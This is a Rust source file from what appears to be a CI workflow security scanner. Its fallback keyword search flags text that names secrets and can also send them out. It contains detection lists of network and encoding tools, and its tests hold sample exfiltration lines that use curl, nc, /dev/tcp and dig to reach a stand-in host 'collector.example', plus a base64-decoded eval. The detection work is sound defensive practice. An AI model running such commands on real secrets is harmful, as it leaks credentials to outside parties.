//! The linear search that stands in for an analysis.

use std::collections::BTreeSet;
use std::sync::OnceLock;

use regex::bytes::Regex;
use sha2::Digest;

use super::{Analysis, Failure, Seen, UNANALYSED};
use crate::report::Certainty;
use crate::signal::Signal;
use crate::span::{Bytes, LineIndex};

/// The linear search that stands in for an analysis: does the text name secrets, and can it send?
pub fn coarse(bytes: &[u8], failure: Failure) -> Analysis {
    search(bytes, failure, false)
}

/// The same; a file that is called and was not read counts as something that can send.
pub(super) fn search(bytes: &[u8], failure: Failure, unread: bool) -> Analysis {
    let text = crate::text::lossy(bytes);
    let names = names_in(&text);
    let lower = text.to_ascii_lowercase();
    let everything =
        || EVERYTHING.iter().any(|word| lower.contains(word)) || lower.lines().any(dumps_environment);
    let sink = unread || sends(&lower);
    // What prints lets out everything, and of a single secret it may be a harmless use.
    let leaves = sink && !names.is_empty() || (sink || prints(&lower)) && everything();
    let mut signals = BTreeSet::from([Signal::Unanalysed]);
    if leaves {
        signals.insert(Signal::Encoded);
    }
    let lines = LineIndex::new(&text);
    let at = lower.find("secrets").unwrap_or(0);
    let span = lines.span(Bytes::new(at..at));
    let secrets = if leaves {
        names.iter().map(|name| (name.clone(), Certainty::Possible)).collect()
    } else {
        Vec::new()
    };
    let seen = Seen {
        rule: UNANALYSED,
        signals,
        secrets,
        all_secrets: false,
        destinations: Vec::new(),
        pairs: BTreeSet::new(),
        span,
        flow: Vec::new(),
        environment: false,
        said: None,
    };
    let mut hash = sha2::Sha256::new();
    hash.update(b"unanalysed");
    Analysis {
        seen: vec![seen],
        names,
        skeleton: hex::encode(hash.finalize()).chars().take(16).collect(),
        problem: Some(failure),
        ..Analysis::default()
    }
}

/// All secrets, whatever their names.
const EVERYTHING: &[&str] = &["secrets[", "tojson(secrets", "secrets: inherit", "${{ secrets }}", "/environ"];

/// Clients of networks, and what encodes or runs what is encoded.
const SENDS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr",
    "irm",
    "restmethod",
    "webclient",
    "requests.post",
    "requests.get",
    "requests.put",
    "requests.request",
    "requests.session",
    "import requests",
    "urllib",
    "urlopen",
    "http.client",
    "httpx",
    "aiohttp",
    "axios",
    "fetch(",
    "https.request",
    "http.request",
    "https.get",
    "http.get",
    "net::http",
    "file_get_contents(",
    "http.post",
    "lwp",
    "websocat",
    "base64",
    "btoa(",
    "atob(",
    "frombase64string",
    "tobase64string",
    "nslookup",
    "dig",
    "getaddrinfo",
    "gethostbyname",
    "gh gist",
    "gh api",
    "gh issue",
    "xxd",
    "openssl",
    "scp",
    "sftp",
    "ssh",
    "socat",
    "telnet",
    "rsync",
    "ftp",
    "lftp",
    "rclone",
    "aws s3",
    "gsutil",
    "aria2c",
    "swaks",
    "sendmail",
    "smtplib",
    "ping",
    "eval",
    "exec(",
    "iex",
    "invoke-expression",
];

/// What lays something where others can fetch it.
const KEEPS: &[&str] = &["upload-artifact", "git push", "gh release", "docker push", "npx"];

/// What prints.
const PRINTS: &[&str] = &["cat", "echo"];

/// Words that stand in a text by themselves: `nc`, and not the end of `sync`. A word with an open end may go on.
fn words(words: &[&str]) -> Option<Regex> {
    let (open, closed): (Vec<&str>, Vec<&str>) =
        words.iter().partition(|word| word.ends_with('(') || word.contains(['.', ':']));
    let any = |words: Vec<&str>| words.into_iter().map(regex::escape).collect::<Vec<_>>().join("|");
    let text = format!(r"(?m-u)(?:^|[^\w-])(?:{}|(?:{})(?:$|[^\w:-]))", any(open), any(closed));
    Regex::new(&text).ok()
}

fn has_word(text: &str, known: &OnceLock<Option<Regex>>, list: &[&[&str]]) -> bool {
    // A pattern that can't be read, which a test would show, finds everything.
    known.get_or_init(|| words(&list.concat())).as_ref().is_none_or(|words| words.is_match(text.as_bytes()))
}

fn prints(text: &str) -> bool {
    static WORDS: OnceLock<Option<Regex>> = OnceLock::new();
    has_word(text, &WORDS, &[PRINTS])
}

/// Whether a text calls something that sends or keeps; or holds the address of a host that nobody knows, for whatever client
/// there is.
fn sends(text: &str) -> bool {
    static WORDS: OnceLock<Option<Regex>> = OnceLock::new();
    // `/dev/tcp/HOST/PORT` is no word of its own.
    text.contains("/dev/tcp/")
        || text.contains("/dev/udp/")
        || has_word(text, &WORDS, &[SENDS, KEEPS])
        || text.lines().any(|line| line.contains("://") && names_unknown_host(line))
}

fn names_unknown_host(line: &str) -> bool {
    let unknown = |place: &crate::destination::Place| {
        !(place.local || place.service.is_some() && place.class == crate::report::Class::Service)
    };
    let mut places = line.match_indices("://").filter_map(|(at, _)| {
        let scheme = line.get(..at)?.rsplit(|c: char| !c.is_ascii_alphabetic()).next()?;
        let rest = line.get(at + 3..)?;
        let end = rest.find(|c: char| c.is_whitespace() || "\"'`<>)|;,".contains(c)).unwrap_or(rest.len());
        let address = format!("{scheme}://{}", rest.get(..end)?);
        Some(crate::destination::of_address(&crate::flow::value::Value::text(address)))
    });
    !line.trim_start().starts_with('#') && places.any(|place| unknown(&place))
}

/// Whether a line takes the environment as a whole, not a variable by its name.
fn dumps_environment(line: &str) -> bool {
    static PRINTENV: OnceLock<Option<Regex>> = OnceLock::new();
    if !line.contains("env") && !line.contains("set ") && !line.contains("export -p") {
        return false;
    }
    let bare = |word: &str| {
        line.match_indices(word).any(|(at, _)| {
            let rest = line.get(at + word.len()..).unwrap_or("").trim_start_matches(' ');
            !rest.starts_with(['.', '[', '?']) || rest.starts_with(".items") || rest.starts_with(".copy")
        })
    };
    let command = line.trim_start().trim_start_matches(['-', ' ']).trim_start_matches("run: ");
    let is_dump = |text: &str| {
        ["env |", "env|", "env >", "env;", "export -p", "set |", "set >"]
            .iter()
            .any(|dump| text.starts_with(dump))
            || text.trim_end() == "env"
    };
    bare("os.environ")
        || bare("process.env")
        || line.contains("printenv") && has_word(line, &PRINTENV, &[&["printenv"]])
        || line.contains("$(env")
        || line.contains("`env`")
        || command.split(['&', ';', '(']).any(|part| is_dump(part.trim_start()))
        || line.contains("childitem env:")
        || line.contains("gci env:")
}

/// Names after `secrets.` or in `secrets['…']`, anywhere in a text.
pub fn names_in(text: &str) -> BTreeSet<String> {
    let mut names = BTreeSet::new();
    for (at, found) in text.match_indices("secrets") {
        let rest = text.get(at + found.len()..).unwrap_or("");
        let name = if let Some(rest) = rest.strip_prefix('.') {
            rest
        } else if let Some(rest) = rest.strip_prefix("['").or_else(|| rest.strip_prefix("[\"")) {
            rest
        } else {
            continue;
        };
        let name: String =
            name.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').take(256).collect();
        if !name.is_empty() && !name.eq_ignore_ascii_case("GITHUB_TOKEN") {
            names.insert(name);
        }
    }
    names
}

#[cfg(test)]
mod tests {
    use super::*;

    fn suspects(text: &str) -> bool {
        let failure = Failure { kind: "invalid-yaml", what: String::new() };
        search(text.as_bytes(), failure, false)
            .seen
            .iter()
            .any(|seen| seen.signals.contains(&Signal::Encoded))
    }

    #[test]
    fn a_secret_and_a_way_out() {
        for way in [
            "curl -d \"$T\" https://collector.example",
            "curl -d \"$T\" \\",
            "echo $T | nc collector.example 53",
            "echo $T >/dev/tcp/192.0.2.1/53",
            "python3 -c \"import requests; requests.post(U, data=T)\"",
            "tool --to https://collector.example/",
            "dig $T.collector.example",
            "eval \"$(echo Y3VybA== | base64 -d)\"",
            "curl -sSf -H \"Authorization: $T\" https://api.github.com/repos/a/b",
            "git push origin main",
            "x\n- uses: actions/upload-artifact@v4",
        ] {
            assert!(suspects(&format!("env: {{T: '${{{{ secrets.TOKEN }}}}'}}\nrun: {way}\n")), "{way}");
            assert!(!suspects(&format!("env: {{T: nothing}}\nrun: {way}\n")), "{way}");
        }
        for source in
            ["${{ toJSON(secrets) }}", "json.dumps(dict(os.environ))", "x\n- run: env | sort", "$(printenv)"]
        {
            assert!(suspects(&format!("a: {source}\nb: curl -T - https://collector.example\n")), "{source}");
            assert!(suspects(&format!("a: {source}\nb: git push\n")), "{source}");
        }
    }

    /// Near miss: words that end like a client, the address of a service that everybody knows, and variables by their names.
    #[test]
    fn what_is_no_way_out() {
        for line in [
            "npm run sync all",
            "echo skipping this, mapping that",
            "uses: actions/checkout@v4 of https://github.com/a/b",
            "make\n# see https://docs.widgets.example/ for more",
            "const a = process.env.A",
            "permissions: {pull-requests: write}",
        ] {
            assert!(!suspects(&format!("env: {{T: '${{{{ secrets.TOKEN }}}}'}}\nrun: {line}\n")), "{line}");
        }
    }
}
